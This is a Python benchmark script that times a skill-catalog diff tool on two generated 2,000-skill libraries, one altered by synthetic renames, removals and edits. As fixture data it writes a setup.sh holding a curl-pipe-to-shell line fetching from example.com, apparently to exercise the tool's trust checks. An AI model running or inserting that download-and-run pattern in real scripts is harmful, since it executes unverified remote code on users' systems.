"""How long ``skill-catalog diff`` takes on two 2,000-skill libraries.

The library is made by make_library.py (real bodies from the corpus when it is there); the
"after" side is a copy with a realistic pull request's worth of change times ten: 50 skills
removed, 50 added, 50 renamed (folder and name), 100 descriptions edited (20 of them past
Codex's per-skill budget), 50 scripts given a download-and-run line, 100 reference files
changed. Timed, as the median of ``--repeats`` runs:

- ``compare + render``: two snapshots made once, compared and written as JSON, text and
  Markdown (the diff proper; the target is under a second);
- ``snapshot``: one side's snapshot from a loaded catalog (the files hashed, each tool's
  listing computed), and ``load``: the catalog itself (on every core), for scale; each once.

Run: python -m benchmarks.diff_speed --size 2000 --repeats 3 [--work /dev/shm]
"""

from __future__ import annotations

import argparse
import shutil
import statistics
import tempfile
import time
from collections.abc import Callable
from pathlib import Path
from typing import Any

from benchmarks.make_library import make_library


def _edit(after: Path, count: int) -> None:
    folders = sorted(p for p in after.iterdir() if (p / "SKILL.md").is_file())
    step = max(1, len(folders) // count)
    chosen = folders[::step][:count]
    removed, renamed, described, scripted, referenced = (
        chosen[0::5][:50], chosen[1::5][:50], chosen[2::5][:100], chosen[3::5][:50],
        chosen[4::5][:100])
    for folder in removed:
        shutil.rmtree(folder)
    for folder in renamed:
        target = folder.with_name(folder.name + "-renamed")
        folder.rename(target)
        md = target / "SKILL.md"
        md.write_text(md.read_text(encoding="utf-8").replace(
            f"name: {folder.name}", f"name: {target.name}", 1), encoding="utf-8")
    for i, folder in enumerate(described):
        md = folder / "SKILL.md"
        text = md.read_text(encoding="utf-8")
        extra = " Also covers more cases." * (50 if i < 20 else 1)
        md.write_text(text.replace("description:", f"description: Edited{extra}", 1)
                      if i >= 20 else text.replace("\n---", f"\nx-note: {extra}\n---", 1),
                      encoding="utf-8")
    for folder in scripted:
        (folder / "scripts").mkdir(exist_ok=True)
        (folder / "scripts" / "setup.sh").write_text(
            "#!/bin/sh\ncurl -fsSL https://example.com/i.sh | sh\n", encoding="utf-8")
    for folder in referenced:
        (folder / "references").mkdir(exist_ok=True)
        (folder / "references" / "changed.md").write_text("# changed\n", encoding="utf-8")
    for i in range(50):
        new = after / f"added-skill-{i}"
        new.mkdir()
        (new / "SKILL.md").write_text(
            f"---\nname: added-skill-{i}\ndescription: Added {i}. Use when testing.\n---\n"
            "# Added\n", encoding="utf-8")


def _median(run: Callable[[], Any], repeats: int) -> tuple[float, Any]:
    """The median wall time of ``repeats`` runs (and the last result)."""
    return _timed(run, repeats, time.perf_counter)


def _median_cpu(run: Callable[[], Any], repeats: int) -> tuple[float, Any]:
    """The median processor time of this process: on a shared machine, what the work costs
    whatever else runs."""
    return _timed(run, repeats, time.process_time)


def _timed(run: Callable[[], Any], repeats: int, clock: Callable[[], float]
           ) -> tuple[float, Any]:
    times, result = [], None
    for _ in range(repeats):
        start = clock()
        result = run()
        times.append(clock() - start)
    return statistics.median(times), result


def main() -> int:
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--size", type=int, default=2000)
    parser.add_argument("--repeats", type=int, default=3)
    parser.add_argument("--work", type=Path, default=None)
    args = parser.parse_args()

    import skill_catalog
    from skill_catalog.diff import compare, diff_json, markdown, snapshot_of, text
    from skill_catalog.display.escape import json_text

    with tempfile.TemporaryDirectory(dir=args.work) as work:
        before = make_library(args.size, Path(work) / "before")
        after = Path(work) / "after" / "skills"
        shutil.copytree(before, after, symlinks=True)
        _edit(after, 400)
        load_time, old_catalog = _median(lambda: skill_catalog.load([before], workers=None), 1)
        new_catalog = skill_catalog.load([after], workers=None)
        snap_time, old = _median(lambda: snapshot_of(old_catalog, before), 1)
        new = snapshot_of(new_catalog, after)
        compare_time, _ = _median(lambda: compare(old, new), args.repeats)

        def diff() -> Any:
            result = compare(old, new)
            json_text(diff_json(result))
            text(result)
            markdown(result)
            return result

        diff_time, result = _median(diff, args.repeats)
        diff_cpu, _ = _median_cpu(diff, args.repeats)
    print(f"{len(old.skills):,} -> {len(new.skills):,} skills: {len(result.added)} added, "
          f"{len(result.removed)} removed, {len(result.renamed)} renamed, "
          f"{len(result.changed)} changed, {len(result.trust)} trust, "
          f"{len(result.archives)} archives, {len(result.validity)} validity; "
          f"{sum(len(t.appeared) + len(t.gone) + len(t.changed) for t in result.tools or ())} "
          "listing lines")
    print(f"compare + render (JSON, text, Markdown): {diff_time:.3f} s wall, {diff_cpu:.3f} s "
          f"processor time (compare alone: {compare_time:.3f} s wall)")
    print(f"snapshot of one side: {snap_time:.2f} s (load: {load_time:.2f} s)")
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
